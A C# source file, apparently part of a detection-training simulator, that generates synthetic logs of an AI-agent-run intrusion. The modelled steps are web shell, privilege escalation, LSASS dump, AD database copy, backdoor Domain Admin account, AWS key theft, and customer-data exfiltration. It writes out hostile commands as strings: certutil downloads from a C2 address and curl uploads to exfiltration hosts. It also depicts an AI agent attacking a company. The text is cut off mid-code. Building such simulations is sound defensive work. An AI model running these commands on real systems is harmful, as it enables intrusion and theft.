using System.Globalization;

namespace Vigil.Simulation;

/// <summary>
/// A machine-operated intrusion in the manner of GTG-1002 (MITRE C0062): an AI agent does the tactical work,
/// a person approves each next phase. In the logs that means machine-speed bursts (several actions per second,
/// near-regular sub-second gaps, sustained for minutes, several hosts worked at once) separated by long pauses.
///
/// Story: the agent validates and exploits the internet-facing customer portal (WEB01, IIS) and drives a web
/// shell (every command is an inbound HTTPS request from the exploit address); it runs dozens of distinct
/// discovery commands, pulls a scanner from its server and sweeps both subnets on common ports; it escalates from
/// the application pool to SYSTEM (SeImpersonate "potato"), dumps LSASS (an admin's maintenance session that
/// morning left credentials there), and sprays credentials it claims to have found (none work: bursts of 4625 on
/// several servers) before the dumped admin credentials succeed. After approval it moves to the SQL, file and
/// domain controller servers with PsExec and to a few workstations with WMI, interleaving discovery on all of
/// them; it copies the AD database with ntdsutil, creates a backdoor domain account in Administrators and Domain
/// Admins, and finds an AWS access key in a script on the file share. Finally it exports the customer tables
/// (sqlcmd, bcp), packs them with a password and uploads hundreds of MB to an address never seen before, while
/// reading hundreds of objects from the export bucket with the stolen key (CloudTrail GetObject burst). The
/// cloud variant also shares an EBS snapshot and an RDS snapshot with an outside AWS account.
/// Hosts, accounts, addresses, command order and timing vary with the seed.
/// </summary>
internal sealed class AgentIntrusion
{
    private const string Sys32 = "C:\\Windows\\System32\\";
    private const string Cmd = "C:\\Windows\\System32\\cmd.exe";
    private const string SqlCmd = "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE";
    private const string Bcp = "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\bcp.exe";
    private const string BotoUa = "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.5.0-1016-aws md/arch#x86_64 lang/python#3.11.8 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.69";

    private readonly World _w;
    private readonly CloudTrail _cloud;
    private readonly Rng _r;
    private readonly Company _co;
    private readonly Host _web;
    private long _t;
    private int _gapBase;
    private string _exploitIp = "", _c2Ip = "", _exfilIp = "", _cloudIp = "";

    private AgentIntrusion(World w, CloudTrail cloud, Rng r)
    {
        _w = w; _cloud = cloud; _r = r; _co = w.Co;
        _web = _co.Web ?? throw new InvalidOperationException("simulate: the machine scenario needs the web server");
    }

    /// <summary>The admin whose morning maintenance session on WEB01 leaves credentials in its LSASS.</summary>
    public static Account DumpedAdmin(Company co, int seed) => co.Admins[(int)((uint)seed % (uint)co.Admins.Count)];

    public static void Schedule(World w, CloudTrail cloud, int seed, SimulationTruth truth, bool withCloud)
    {
        var a = new AgentIntrusion(w, cloud, Rng.For(seed, "agent"));
        a.Build(truth, DumpedAdmin(w.Co, seed), withCloud);
    }

    private void Step(string technique, string tactic, string what, Action body) =>
        _w.Labelled(new Label("intrusion", technique, tactic, what), body);

    /// <summary>Sets the agent's pace for a burst: a base gap between actions (ms) it keeps with little jitter.</summary>
    private void Pace(int minMs, int maxMs) => _gapBase = _r.Range(minMs, maxMs);

    /// <summary>Advances the clock by one machine-paced gap: the burst's base gap ±12 %.</summary>
    private long Next()
    {
        _t += _gapBase * _r.Range(88, 112) / 100;
        return _t;
    }

    /// <summary>A long pause while the operator reviews results and approves the next phase (minutes).</summary>
    private void Pause(int minMinutes, int maxMinutes) => _t += _r.Range(minMinutes * 60, maxMinutes * 60) * 1000L;

    /// <summary>The agent's request to its web shell (inbound HTTPS from the exploit address), just before a command.</summary>
    private void ShellRequest(long at) =>
        _w.Wire(at, _exploitIp, _r.Range(32768, 60999), _web.Ip, 443, "tcp", "portal.corp.example",
            new Flow { OrigBytes = _r.Range(700, 2400), RespBytes = _r.Range(300, 9000), DurationMs = _r.Range(80, 900), State = "SF", Service = "ssl" });

    /// <summary>Runs one command the way a web shell or remote shell does: <c>cmd.exe /c …</c> then the program.</summary>
    private Proc Run(Proc shell, string commandLine, string? image = null, string? integrity = null)
    {
        long t = _t;
        // Every command, on whichever host, is driven through the web shell on WEB01.
        ShellRequest(t - _r.Range(20, 60));
        var c = _w.Spawn(t, shell, Cmd, $"cmd.exe /c {commandLine}", integrity: integrity);
        if (image == Cmd) return c; // a cmd built-in (del, type ...): no program of its own
        string exe = image ?? Sys32 + commandLine.Split(' ')[0] + ".exe";
        if (commandLine.StartsWith("wmic", StringComparison.Ordinal)) exe = "C:\\Windows\\System32\\wbem\\WMIC.exe";
        return _w.Spawn(t + _r.Range(12, 40), c, exe, commandLine, integrity: integrity);
    }

    private static readonly (string Tech, string Cmd)[] LocalDiscovery =
    [
        ("T1033", "whoami /all"), ("T1033", "whoami /priv"), ("T1082", "hostname"), ("T1016", "ipconfig /all"),
        ("T1082", "systeminfo"), ("T1087.001", "net user"), ("T1069.001", "net localgroup administrators"),
        ("T1057", "tasklist /v"), ("T1007", "tasklist /svc"), ("T1049", "netstat -ano"), ("T1016", "route print"),
        ("T1016", "arp -a"), ("T1033", "query user"), ("T1049", "net session"), ("T1135", "net share"),
        ("T1007", "sc query state= all"), ("T1053.005", "schtasks /query /fo LIST /v"), ("T1518", "wmic product get name,version"),
        ("T1057", "wmic process list brief"), ("T1082", "wmic qfe list brief"), ("T1012", "reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\""),
        ("T1518.001", "netsh advfirewall show allprofiles"), ("T1083", "tree C:\\inetpub\\wwwroot /f"), ("T1552.001", "findstr /si password C:\\inetpub\\wwwroot\\*.config"),
        ("T1552.001", "findstr /i connectionString C:\\inetpub\\wwwroot\\CustomerPortal\\web.config"), ("T1555", "cmdkey /list"), ("T1558", "klist"),
    ];

    private static readonly (string Tech, string Cmd)[] DomainDiscovery =
    [
        ("T1069.002", "net group \"domain admins\" /domain"), ("T1069.002", "net group \"enterprise admins\" /domain"),
        ("T1018", "net group \"domain computers\" /domain"), ("T1201", "net accounts /domain"), ("T1018", "nltest /dclist:corp.example"),
        ("T1482", "nltest /domain_trusts /all_trusts"), ("T1087.002", "net user /domain"), ("T1018", "net view /domain"),
        ("T1558.003", "setspn -T corp.example -Q */*"), ("T1018", "dsquery computer -limit 0"), ("T1087.002", "dsquery user -limit 0"),
        ("T1018", "nslookup -type=SRV _ldap._tcp.dc._msdcs.corp.example"),
    ];

    private void Shuffle<T>(T[] a)
    {
        for (int i = a.Length - 1; i > 0; i--) { int j = _r.Next(i + 1); (a[i], a[j]) = (a[j], a[i]); }
    }

    private string PickIp(string prefix, params string[] avoid)
    {
        while (true)
        {
            string ip = prefix + _r.Range(2, 250).ToString(CultureInfo.InvariantCulture);
            if (!avoid.Contains(ip)) return ip;
        }
    }

    private void Build(SimulationTruth truth, Account admin, bool withCloud)
    {
        var web = _web;
        var pool = web.WebApp!;
        // Addresses differ per seed (documentation ranges, never a customer's or the company's own).
        _exploitIp = PickIp("203.0.113.");
        _c2Ip = PickIp("198.51.100.");
        _exfilIp = PickIp("198.51.100.", _c2Ip);
        _cloudIp = PickIp("203.0.113.", _exploitIp);
        string adminPassword = "Tide!" + _r.Hex(4) + "Mark" + _r.Range(10, 99).ToString(CultureInfo.InvariantCulture);
        string[] backdoorNames = ["svc_monitor", "svc_health", "it_support2", "svc_reportsync", "adm_backup"];
        var backdoor = new Account { Name = _r.Pick(backdoorNames), Domain = Company.NetBios, Sid = _co.DomainSid + "-" + _r.Range(1500, 1900).ToString(CultureInfo.InvariantCulture) };
        // Workstations reached with WMI: three ordinary users' machines, different per seed.
        var wsPool = _co.Workstations.Skip(2).ToArray();
        Shuffle(wsPool);
        var wmiTargets = wsPool.Take(3).ToArray();
        truth.Story = withCloud ? "ai-agent-web-exploit-to-customer-data-and-cloud-snapshot-theft" : "ai-agent-web-exploit-to-customer-data-theft";
        truth.CompromisedHosts.AddRange(new[] { web, _co.Sql, _co.FileServer, _co.Dc }.Concat(wmiTargets).Select(h => h.Fqdn));
        truth.CompromisedAccounts.AddRange([_co.WebPool!.Qualified, admin.Qualified, _cloud.Reporting.Arn]);
        truth.CreatedAccounts.Add(backdoor.Qualified);
        truth.FootholdIp = web.Ip;
        truth.FootholdIps.Add(web.Ip);
        truth.ExternalIps.AddRange([_exploitIp, _c2Ip, _exfilIp, _cloudIp]);

        _t = (11 * 60 + 10) * 60_000L + _r.Next(110 * 60_000);

        // ---- Phase 1: vulnerability validation against the portal, exploitation, web shell -------------------
        Pace(120, 260);
        Step("T1595.002", "reconnaissance", "vulnerability scan of the customer portal", () =>
        {
            for (int i = 0; i < 160; i++) ShellRequest(Next());
        });
        string shellName = "C:\\inetpub\\wwwroot\\CustomerPortal\\App_Data\\tmp\\" + _r.Hex(8) + ".aspx";
        Step("T1190", "initial-access", "exploit upload handler of the customer portal", () =>
        {
            ShellRequest(Next());
            _w.FileCreate(_t + 180, pool, shellName);
        });
        Step("T1505.003", "persistence", "web shell runs its first command", () =>
        {
            _t += 1500;
            Run(pool, "whoami");
        });

        // ---- Burst 1: discovery at machine speed on the web server, then a sweep of both subnets -------------
        Pause(12, 25);
        Pace(280, 480);
        var local = LocalDiscovery.ToArray();
        Shuffle(local);
        var domain = DomainDiscovery.ToArray();
        Shuffle(domain);
        foreach (var (tech, cmd) in local.Concat(domain))
            Step(tech, "discovery", "agent discovery: " + cmd.Split(' ')[0], () => { Next(); Run(pool, cmd); });
        // Name lookups of every host the directory listed, one per host in directory order.
        Step("T1018", "discovery", "agent resolves every computer in the domain", () =>
        {
            foreach (var h in _co.Hosts.Where(h => h != web))
            {
                var p = Run(pool, "nslookup " + h.Fqdn);
                _w.Net(_t + 60, p, NetSensor.DnsServerIp, 53, _co.Dc.Fqdn, "udp");
                Next();
            }
        });
        // Reachability and users: one command per host and per account, in directory order.
        Step("T1018", "discovery", "agent pings every computer", () =>
        {
            foreach (var h in _co.Hosts.Where(h => h != web)) { Next(); Run(pool, "ping -n 1 -w 500 " + h.Name); }
        });
        Step("T1087.002", "discovery", "agent queries domain users one by one", () =>
        {
            foreach (var u in _co.Users.Concat(_co.Admins)) { Next(); Run(pool, $"net user {u.Name} /domain"); }
        });
        // Tooling: a port scanner from the agent's server (certutil download).
        string scanner = "C:\\Windows\\Temp\\" + _r.Pick(new[] { "svcmon", "wupd", "netdiag", "perfhost" }) + ".exe";
        Step("T1105", "command-and-control", "download a port scanner with certutil", () =>
        {
            Next();
            var cu = Run(pool, $"certutil -urlcache -split -f https://{_c2Ip}/d/fs.bin {scanner}");
            _w.Net(_t + 200, cu, _c2Ip, 443, flow: new Flow { OrigBytes = 1_800, RespBytes = 6_420_992, DurationMs = 2_400, State = "SF", Sni = false });
            _w.FileCreate(_t + 2_700, cu, scanner);
            _t += 3_000;
        });
        Step("T1046", "discovery", "sweep of both subnets on common ports", () =>
        {
            Next();
            var scan = Run(pool, $"{scanner} -h 10.10.10.1/24,10.10.20.1/24 -p 22,80,135,445,1433,3389,5985 -np -nobr -t 32", image: scanner);
            long t = _t + 300;
            int[] ports = [22, 80, 135, 445, 1433, 3389, 5985];
            var targets = Enumerable.Range(1, 64).Select(i => "10.10.10." + i).Concat(Enumerable.Range(1, 48).Select(i => "10.10.20." + i)).ToArray();
            foreach (var ip in targets)
                foreach (int port in ports)
                {
                    if (ip == web.Ip) continue;
                    t += _r.Range(15, 60);
                    _w.Net(t, scan, ip, port, flow: ScanResult(ip, port));
                }
            _t = t + 500;
        });

        // ---- Burst 2 (after approval): privilege escalation, LSASS, credential spraying then success ------------
        Pause(20, 45);
        Pace(300, 520);
        string potato = "C:\\Windows\\Temp\\" + _r.Pick(new[] { "gp", "sp", "efs" }) + _r.Range(2, 9).ToString(CultureInfo.InvariantCulture) + ".exe";
        Proc system = null!;
        Step("T1105", "command-and-control", "download privilege escalation tool", () =>
        {
            Next();
            var cu = Run(pool, $"certutil -urlcache -split -f https://{_c2Ip}/d/gp.bin {potato}");
            _w.Net(_t + 200, cu, _c2Ip, 443, flow: new Flow { OrigBytes = 1_700, RespBytes = 188_416, DurationMs = 700, State = "SF", Sni = false });
            _w.FileCreate(_t + 900, cu, potato);
            _t += 1_200;
        });
        Step("T1134.001", "privilege-escalation", "SeImpersonate potato from the application pool to SYSTEM", () =>
        {
            Next();
            var gp = Run(pool, $"{potato} -cmd \"cmd /c whoami\"", image: potato);
            system = _w.Spawn(_t + 400, gp, Cmd, "cmd.exe /c whoami", logon: web.SystemLogon, integrity: "System");
            _w.Spawn(_t + 430, system, Sys32 + "whoami.exe", "whoami", integrity: "System");
            // The elevated shell the agent keeps using: the potato starts it for every command.
            system = _w.Spawn(_t + 900, gp, Cmd, "cmd.exe /Q", logon: web.SystemLogon, integrity: "System", cwd: "C:\\Windows\\Temp\\");
        });
        string dump = "C:\\Windows\\Temp\\" + _r.Hex(6) + ".dmp";
        Step("T1003.001", "credential-access", "LSASS dump with ProcDump", () =>
        {
            Next();
            var cu = Run(system, $"certutil -urlcache -split -f https://{_c2Ip}/d/pd.bin C:\\Windows\\Temp\\procdump64.exe");
            _w.Net(_t + 150, cu, _c2Ip, 443, flow: new Flow { OrigBytes = 1_600, RespBytes = 424_832, DurationMs = 600, State = "SF", Sni = false });
            Next();
            var pd = Run(system, $"procdump64.exe -accepteula -ma lsass.exe {dump}", image: "C:\\Windows\\Temp\\procdump64.exe");
            _w.ProcessAccess(_t + 200, pd, web.Lsass, "0x1FFFFF",
                "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\SYSTEM32\\dbghelp.dll+1b3e0|C:\\Windows\\Temp\\procdump64.exe+4e2a1|C:\\Windows\\System32\\KERNEL32.DLL+17034|C:\\Windows\\SYSTEM32\\ntdll.dll+52651");
            _w.FileCreate(_t + 2_600, pd, dump);
            _t += 3_000;
        });
        Step("T1041", "exfiltration", "LSASS dump uploaded to the agent's server", () =>
        {
            Next();
            var up = Run(system, $"curl -s -k -T {dump} https://{_c2Ip}/u/{_r.Hex(6)}", image: Sys32 + "curl.exe");
            _w.Net(_t + 150, up, _c2Ip, 443, flow: new Flow { OrigBytes = 51_380_224, RespBytes = 4_200, DurationMs = 14_000, State = "SF", Sni = false });
            _t += 15_000;
        });
        // Credentials the agent claims to have found (config files, guesses): none of them work.
        var servers = new[] { _co.Sql, _co.FileServer, _co.Dc, _co.Mgmt };
        string[] claimed = ["administrator", "portal_ro", _co.SvcSql.Name, _co.SvcBackup.Name, admin.Name, "sa"];
        var spray = new (Host Target, string User)[servers.Length * claimed.Length];
        for (int i = 0, k = 0; i < claimed.Length; i++) for (int j = 0; j < servers.Length; j++) spray[k++] = (servers[j], claimed[i]);
        Step("T1110.003", "credential-access", "spray of claimed credentials over SMB (all fail)", () =>
        {
            Next();
            var tool = Run(system, $"{scanner} -h 10.10.10.10,10.10.10.20,10.10.10.30,10.10.10.40 -m smb -user {string.Join(",", claimed)} -pwdf C:\\Windows\\Temp\\p.txt", image: scanner);
            long t = _t + 200;
            foreach (var round in new[] { 0, 1 })
                foreach (var (target, user) in spray)
                {
                    t += _gapBase * _r.Range(40, 70) / 100;
                    _w.Net(t, tool, target.Ip, 445, flow: new Flow { OrigBytes = _r.Range(900, 1600), RespBytes = _r.Range(700, 1300), DurationMs = _r.Range(8, 40), State = "SF" });
                    bool exists = user != "portal_ro" && user != "sa";
                    _w.FailedNetwork4625(t + 12, target, user, exists ? Company.NetBios : "", web.Ip, web.Name, _r.Range(49152, 65535),
                        exists ? "0xc000006a" : "0xc0000064");
                    _ = round;
                }
            _t = t + 400;
        });
        // The dumped admin credentials work.
        Logon sqlLogon = null!;
        Step("T1078.002", "privilege-escalation", "dumped admin credentials succeed on the SQL server", () =>
        {
            Next();
            var tool = Run(system, $"{scanner} -h 10.10.10.30 -m smb -user {admin.Name} -pwd {adminPassword}", image: scanner);
            _w.Net(_t + 100, tool, _co.Sql.Ip, 445);
            sqlLogon = _w.Logon4624(_t + 140, _co.Sql, admin, 3, web.Ip, web.Name, "NTLM");
            _w.Logoff4634(_t + 900, _co.Sql, sqlLogon);
        });
        // With working credentials: shares of every host, then every domain user, one command each.
        Step("T1135", "discovery", "agent lists the shares of every host", () =>
        {
            foreach (var h in _co.Hosts.Where(h => h != web))
            {
                Next();
                var p = Run(system, $"net view \\\\{h.Name} /all", integrity: "System");
                _w.Net(_t + 40, p, h.Ip, 445);
            }
        });
        Step("T1087.002", "discovery", "agent checks the group memberships of the service accounts", () =>
        {
            foreach (var u in _co.Admins.Concat([_co.SvcBackup, _co.SvcInventory, _co.SvcSql]))
            {
                Next();
                Run(system, $"net user {u.Name} /domain", integrity: "System");
            }
        });
        Step("T1083", "discovery", "agent lists user profiles on every host over the admin share", () =>
        {
            foreach (var h in _co.Hosts.Where(h => h != web))
            {
                Next();
                var p = Run(system, $"dir \\\\{h.Name}\\C$\\Users", image: Cmd, integrity: "System");
                _w.Net(_t + 30, p, h.Ip, 445);
            }
        });

        // ---- Burst 3 (after approval): lateral movement to several hosts at once, discovery interleaved -----------
        Pause(25, 60);
        Pace(250, 420);
        string psexec = "C:\\Windows\\Temp\\ps.exe";
        Step("T1105", "command-and-control", "download PsExec", () =>
        {
            Next();
            var cu = Run(system, $"certutil -urlcache -split -f https://{_c2Ip}/d/px.bin {psexec}");
            _w.Net(_t + 150, cu, _c2Ip, 443, flow: new Flow { OrigBytes = 1_600, RespBytes = 833_472, DurationMs = 900, State = "SF", Sni = false });
            _w.FileCreate(_t + 1_100, cu, psexec);
            _t += 1_300;
        });
        var shells = new Dictionary<Host, Proc>();
        foreach (var target in new[] { _co.Sql, _co.FileServer, _co.Dc })
            Step("T1021.002", "lateral-movement", "PsExec to " + target.Name, () =>
            {
                Next();
                shells[target] = PsExec(system, psexec, target, admin, adminPassword);
            });
        foreach (var ws in wmiTargets)
            Step("T1047", "lateral-movement", "WMI process creation on " + ws.Name, () =>
            {
                Next();
                Wmi(system, ws, admin, adminPassword, "cmd.exe /c whoami > C:\\Windows\\Temp\\w.txt");
            });
        // Interleaved discovery on the three servers and the workstations: one queue per host, the agent takes
        // the next command from whichever host's context it attends to, so steps alternate between hosts.
        var queues = new List<(Host Host, Queue<(string Tech, string Cmd)> Q)>();
        foreach (var (h, _) in shells)
        {
            var cmds = new[] { ("T1033", "whoami /all"), ("T1082", "hostname"), ("T1016", "ipconfig /all"), ("T1049", "net session"), ("T1033", "qwinsta"),
                ("T1057", "tasklist /v"), ("T1049", "netstat -ano"), ("T1135", "net share"), ("T1069.001", "net localgroup administrators"), ("T1082", "systeminfo"),
                ("T1016", "route print"), ("T1016", "arp -a"), ("T1007", "tasklist /svc"), ("T1007", "sc query state= all"), ("T1053.005", "schtasks /query /fo LIST /v"),
                ("T1082", "wmic qfe list brief"), ("T1518.001", "netsh advfirewall show allprofiles"), ("T1087.001", "net user"), ("T1083", "dir C:\\Users /a"), ("T1555", "cmdkey /list"),
                ("T1057", "wmic process list brief"), ("T1518", "wmic product get name,version"), ("T1012", "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"),
                ("T1083", "dir C:\\ProgramData /a"), ("T1083", "dir D:\\ /a"), ("T1082", "wmic logicaldisk get caption,size,freespace"), ("T1033", "query user"),
                ("T1016", "netsh interface ipv4 show addresses"), ("T1049", "netstat -rn"), ("T1558", "klist") };
            Shuffle(cmds);
            queues.Add((h, new Queue<(string, string)>(cmds)));
        }
        foreach (var ws in wmiTargets)
            queues.Add((ws, new Queue<(string, string)>(new[] { ("T1033", "whoami /all"), ("T1016", "ipconfig /all"), ("T1057", "tasklist /v"), ("T1033", "query user"),
                ("T1049", "netstat -ano"), ("T1083", "dir C:\\Users /a"), ("T1082", "systeminfo"), ("T1069.001", "net localgroup administrators") })));
        while (queues.Any(q => q.Q.Count > 0))
        {
            var live = queues.Where(q => q.Q.Count > 0).ToList();
            var (h, q) = live[_r.Next(live.Count)];
            var (tech, cmd) = q.Dequeue();
            Step(tech, "discovery", $"agent discovery on {h.Name}: {cmd.Split(' ')[0]}", () =>
            {
                Next();
                if (shells.TryGetValue(h, out var sh)) Run(sh, cmd, integrity: "System");
                else Wmi(system, h, admin, adminPassword, $"cmd.exe /Q /c {cmd} 1> \\\\127.0.0.1\\ADMIN$\\__{_r.Hex(6)} 2>&1");
            });
        }
        var dc = _co.Dc;
        Step("T1003.003", "credential-access", "copy of the AD database with ntdsutil IFM", () =>
        {
            Next();
            var nt = Run(shells[dc], "ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\Windows\\Temp\\ifm\" q q", integrity: "System");
            _w.FileCreate(_t + 6_000, nt, "C:\\Windows\\Temp\\ifm\\Active Directory\\ntds.dit");
            _w.FileCreate(_t + 6_400, nt, "C:\\Windows\\Temp\\ifm\\registry\\SYSTEM");
            _t += 7_000;
        });
        string backdoorPassword = "Qv" + _r.Hex(6) + "!" + _r.Range(10, 99).ToString(CultureInfo.InvariantCulture);
        // PsExec -s: the remote shell runs as SYSTEM, so the DC records its machine account as the subject.
        var dcSystem = dc.SystemLogon;
        Step("T1136.002", "persistence", "backdoor domain account", () =>
        {
            Next();
            var net = Run(shells[dc], $"net user {backdoor.Name} {backdoorPassword} /add /domain", integrity: "System");
            _w.Spawn(_t + 30, net, Sys32 + "net1.exe", $"C:\\Windows\\system32\\net1 user {backdoor.Name} {backdoorPassword} /add /domain", integrity: "System");
            _w.UserCreated4720(_t + 90, dc, dcSystem, backdoor);
            _w.UserEnabled4722(_t + 95, dc, dcSystem, backdoor);
        });
        Step("T1098", "persistence", "backdoor account added to Administrators and Domain Admins", () =>
        {
            Next();
            var net = Run(shells[dc], $"net localgroup administrators {backdoor.Name} /add", integrity: "System");
            _w.Spawn(_t + 30, net, Sys32 + "net1.exe", $"C:\\Windows\\system32\\net1 localgroup administrators {backdoor.Name} /add", integrity: "System");
            _w.GroupMemberAdded(_t + 80, dc, dcSystem, backdoor, 4732, "Administrators", "Builtin", "S-1-5-32-544");
            Next();
            var net2 = Run(shells[dc], $"net group \"Domain Admins\" {backdoor.Name} /add /domain", integrity: "System");
            _w.Spawn(_t + 30, net2, Sys32 + "net1.exe", $"C:\\Windows\\system32\\net1 group \"Domain Admins\" {backdoor.Name} /add /domain", integrity: "System");
            _w.GroupMemberAdded(_t + 80, dc, dcSystem, backdoor, 4728, "Domain Admins", Company.NetBios, _co.DomainSid + "-512");
        });
        Step("T1552.001", "credential-access", "AWS access key found in a script on the file share", () =>
        {
            Next();
            Run(shells[_co.FileServer], "findstr /s /i /m aws_secret_access_key D:\\Shares\\*.ps1 D:\\Shares\\*.config D:\\Shares\\*.txt", integrity: "System");
            Next();
            Run(shells[_co.FileServer], "type D:\\Shares\\IT\\scripts\\s3-daily-report.ps1", image: Cmd, integrity: "System");
        });

        // ---- Burst 4 (after approval): bulk collection and exfiltration, cloud reads in parallel ------------------
        Pause(30, 70);
        Pace(260, 450);
        var sqlShell = shells[_co.Sql];
        string[] tables = ["SalesDB.dbo.Customers", "SalesDB.dbo.Payments", "SalesDB.dbo.IpAssignments", "CrmDB.dbo.WifiProfiles", "CrmDB.dbo.Contacts"];
        string[] countTables = ["SalesDB.dbo.Customers", "SalesDB.dbo.Payments", "SalesDB.dbo.Orders", "SalesDB.dbo.IpAssignments", "SalesDB.dbo.Invoices",
            "CrmDB.dbo.WifiProfiles", "CrmDB.dbo.Contacts", "CrmDB.dbo.Tickets", "CrmDB.dbo.Devices", "HRDB.dbo.Employees"];
        Step("T1213", "collection", "enumerate databases and tables", () =>
        {
            foreach (var table in countTables)
            {
                Next();
                Run(sqlShell, $"\"{SqlCmd}\" -S localhost -E -h -1 -Q \"SET NOCOUNT ON; SELECT COUNT_BIG(*) FROM {table}\"", image: SqlCmd, integrity: "System");
            }
            Next();
            Run(sqlShell, $"\"{SqlCmd}\" -S localhost -E -Q \"SELECT name FROM sys.databases\"", image: SqlCmd, integrity: "System");
            foreach (var db in new[] { "SalesDB", "CrmDB" })
            {
                Next();
                Run(sqlShell, $"\"{SqlCmd}\" -S localhost -E -d {db} -Q \"SELECT s.name, t.name, p.rows FROM sys.tables t JOIN sys.schemas s ON s.schema_id=t.schema_id JOIN sys.partitions p ON p.object_id=t.object_id\"", image: SqlCmd, integrity: "System");
            }
        });
        var staged = new List<string>();
        long cloudStart = _t + 40_000;
        foreach (var table in tables)
            Step("T1005", "collection", "bulk export of " + table, () =>
            {
                Next();
                string file = "C:\\Windows\\Temp\\" + table.Split('.')[^1].ToLowerInvariant() + ".dat";
                staged.Add(file);
                var p = table.EndsWith("Customers", StringComparison.Ordinal)
                    ? Run(sqlShell, $"\"{SqlCmd}\" -S localhost -E -Q \"SELECT * FROM {table}\" -s \",\" -W -o {file}", image: SqlCmd, integrity: "System")
                    : Run(sqlShell, $"\"{Bcp}\" {table} out {file} -c -T -S localhost", image: Bcp, integrity: "System");
                _w.FileCreate(_t + 1_500, p, file);
                Next();
                Run(sqlShell, $"dir {file}", image: Cmd, integrity: "System");
            });
        // The agent checks the file share for customer documents as well.
        var fsShell = shells[_co.FileServer];
        Step("T1039", "collection", "customer folders on the file share listed and copied", () =>
        {
            foreach (var dir in new[] { "Sales", "Finance", "Projects", "Shared" })
            {
                Next();
                Run(fsShell, $"dir D:\\Shares\\{dir} /s /b", image: Cmd, integrity: "System");
                Next();
                Run(fsShell, $"robocopy D:\\Shares\\{dir} C:\\Windows\\Temp\\s\\{dir} *.xlsx *.csv /S /R:0 /W:0 /NP", image: Sys32 + "Robocopy.exe", integrity: "System");
            }
        });
        string archive = "C:\\Windows\\Temp\\" + _r.Hex(6) + ".7z";
        Step("T1560.001", "collection", "password-protected archive of the exports", () =>
        {
            Next();
            var z = Run(sqlShell, $"\"C:\\Program Files\\7-Zip\\7z.exe\" a -t7z -mhe=on -p{_r.Hex(10)} {archive} {string.Join(" ", staged)}",
                image: "C:\\Program Files\\7-Zip\\7z.exe", integrity: "System");
            _w.FileCreate(_t + 9_000, z, archive);
            _t += 9_500;
        });
        Step("T1048.002", "exfiltration", "upload of the archive to a new external address", () =>
        {
            Next();
            var up = Run(sqlShell, $"curl -s -k -X PUT --data-binary @{archive} https://{_exfilIp}/upload/{_r.Hex(8)}", image: Sys32 + "curl.exe", integrity: "System");
            long mb = _r.Range(380, 760);
            _w.Net(_t + 200, up, _exfilIp, 443, flow: new Flow { OrigBytes = mb * 1_000_000 + _r.Range(0, 999_999), RespBytes = _r.Range(3_000, 9_000), DurationMs = mb * 160, State = "SF", Sni = false });
            _t += 2_000;
        });
        Step("T1070.004", "defense-evasion", "delete staged files and tools", () =>
        {
            Next();
            Run(sqlShell, $"del /f /q {archive} {string.Join(" ", staged)}", image: Cmd, integrity: "System");
            Next();
            Run(system, $"del /f /q {scanner} {potato} {psexec} {dump} C:\\Windows\\Temp\\procdump64.exe {shellName}", image: Cmd, integrity: "System");
        });

        // Cloud, in parallel with the database export: listings and a burst of reads with the stolen key.
        long saved = _t;
        _t = cloudStart;
        Pace(150, 320);
        var rep = _cloud.Reporting;
        Step("T1580", "discovery", "cloud discovery with the stolen access key", () =>
        {
            _cloud.Record(Next(), rep, "sts.amazonaws.com", "GetCallerIdentity", _cloudIp, BotoUa, _ => { }, null, readOnly: true, label: _w.CurrentLabel);
            _cloud.Record(Next(), rep, "s3.amazonaws.com", "ListBuckets", _cloudIp, BotoUa, r => r.WriteString("Host", "s3." + CloudTrail.Region + ".amazonaws.com"), null, readOnly: true, label: _w.CurrentLabel);
            foreach (var prefix in new[] { "exports/customers/", "exports/payments/", "exports/wifi/" })
                _cloud.ListObjects(Next(), rep, _cloudIp, BotoUa, CloudTrail.ExportBucket, prefix, _w.CurrentLabel);
        });
        Step("T1530", "collection", "bulk download from the customer export bucket", () =>
        {
            int n = _r.Range(260, 420);
            string[] kinds = ["customers", "payments", "wifi"];
            for (int i = 0; i < n; i++)
            {
                string kind = kinds[i % kinds.Length];
                _cloud.GetObject(Next(), rep, _cloudIp, BotoUa, CloudTrail.ExportBucket,
                    $"exports/{kind}/2026/{(i / 3 % 28) + 1:00}/part-{i:00000}.csv.gz", _r.Range(400_000, 6_000_000), _w.CurrentLabel);
            }
        });
        if (withCloud)
        {
            string outside = _r.Range(100000, 999999).ToString(CultureInfo.InvariantCulture) + _r.Range(100000, 999999).ToString(CultureInfo.InvariantCulture);
            string snap = "snap-0" + _r.Hex(16);
            string dbSnap = "crm-prod-manual-" + _r.Hex(6);
            Pause(10, 25);
            Step("T1537", "exfiltration", "EBS snapshot shared with an outside account", () =>
            {
                _cloud.Record(Next(), rep, "ec2.amazonaws.com", "DescribeSnapshots", _cloudIp, BotoUa, r => r.WriteString("ownersSet", "self"), null, label: _w.CurrentLabel);
                _cloud.Record(Next(), rep, "ec2.amazonaws.com", "ModifySnapshotAttribute", _cloudIp, BotoUa, r =>
                {
                    r.WriteString("snapshotId", snap);
                    r.WriteStartObject("createVolumePermission");
                    r.WriteStartObject("add");
                    r.WriteStartArray("items");
                    r.WriteStartObject(); r.WriteString("userId", outside); r.WriteEndObject();
                    r.WriteEndArray();
                    r.WriteEndObject();
                    r.WriteEndObject();
                    r.WriteString("attributeType", "CREATE_VOLUME_PERMISSION");
                }, r => { r.WriteString("requestId", Guid.Empty.ToString()); r.WriteBoolean("_return", true); }, readOnly: false, label: _w.CurrentLabel);
            });
            Step("T1537", "exfiltration", "RDS snapshot shared with an outside account", () =>
            {
                _cloud.Record(Next(), rep, "rds.amazonaws.com", "DescribeDBSnapshots", _cloudIp, BotoUa, r => r.WriteString("snapshotType", "manual"), null, label: _w.CurrentLabel);
                _cloud.Record(Next(), rep, "rds.amazonaws.com", "ModifyDBSnapshotAttribute", _cloudIp, BotoUa, r =>
                {
                    r.WriteString("dBSnapshotIdentifier", dbSnap);
                    r.WriteString("attributeName", "restore");
